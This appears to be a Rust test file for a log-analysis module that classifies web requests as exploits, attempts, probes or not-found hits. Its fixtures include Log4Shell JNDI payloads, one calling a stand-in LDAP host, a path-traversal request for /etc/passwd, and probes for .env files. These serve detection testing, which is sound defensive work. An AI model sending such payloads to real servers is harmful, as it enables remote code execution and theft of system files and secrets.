//! What one event tells about a contact.

use relight_model::Escape;

use super::*;

fn event(path: &'static str, status: u16) -> Event<'static> {
    Event {
        site: Some(SiteId(1)),
        host: "www.example.test",
        method: "GET",
        path,
        status,
        escape: Escape::Apache,
        ..Event::bare(OrgId(1), 0, IpAddr::from([192, 0, 2, 1]))
    }
}

fn kind(event: &Event<'_>) -> Option<Kind> {
    match observe(event) {
        Observed::Contact(knock, _) => Some(knock.kind),
        Observed::Ordinary(_) | Observed::Open(_) | Observed::Neither => None,
    }
}

#[test]
fn the_first_class_that_holds() {
    for (path, status, expected) in [
        ("/${jndi:ldap://x/a}", 200, Some(Kind::Exploit)),
        ("/$${jndi:ldap://x/a}", 200, Some(Kind::Attempt)),
        ("/${jndi:java:comp/x}", 200, None),
        ("/.env", 200, Some(Kind::Probe)),
        ("/a/%2e%2e/%2e%2e/etc/passwd", 404, Some(Kind::Attempt)),
        ("/%2eenv", 404, Some(Kind::Probe)),
        ("/a", 403, Some(Kind::Refused)),
        ("/a", 404, Some(Kind::NotFound)),
        ("/a", 410, Some(Kind::NotFound)),
        ("/robots.txt", 404, None),
        ("/a", 200, None),
        ("/a", 500, None),
    ] {
        assert_eq!(kind(&event(path, status)), expected, "{path} {status}");
    }
}

/// A payload that comes through a door of the catalogue is both.
#[test]
fn a_payload_through_a_door_is_both() {
    let query = "x=${jndi:ldap://c.example/a}";
    for (path, door) in [("/solr/admin/cores", true), ("/nowhere", false)] {
        let observed = observe(&Event { query, ..event(path, 200) });
        let Observed::Contact(first, second) = observed else { panic!("{observed:?}") };
        assert_eq!((first.kind, first.text.as_str()), (Kind::Exploit, "ldap://c.example/a"));
        assert_eq!(second.map(|it| it.kind), door.then_some(Kind::Probe), "{path}");
    }
}

#[test]
fn referers_inside_the_site() {
    let with = |referer| is_in_site("www.example.test", referer);
    assert!(with("https://www.example.test/page") && with("http://WWW.example.test:8080/"));
    assert!(!with("https://other.test/www.example.test") && !with("") && !with("http://"));
    assert!(!is_in_site("", "http:///a"));
}

#[test]
fn an_ipv6_scanner_is_one_subject() {
    let one: IpAddr = "2001:db8:1:2::1".parse().unwrap();
    let other: IpAddr = "2001:db8:1:2:ffff::9".parse().unwrap();
    assert_eq!(subject(one), subject(other));
    assert_ne!(subject(one), subject("2001:db8:1:3::1".parse().unwrap()));
    let mapped: IpAddr = "::ffff:192.0.2.1".parse().unwrap();
    assert_eq!(subject(mapped), IpAddr::from([192, 0, 2, 1]));
}

#[test]
fn text_is_cut() {
    assert_eq!(cut(&"a".repeat(TEXT_BYTES_MAX + 1)).len(), TEXT_BYTES_MAX);
}
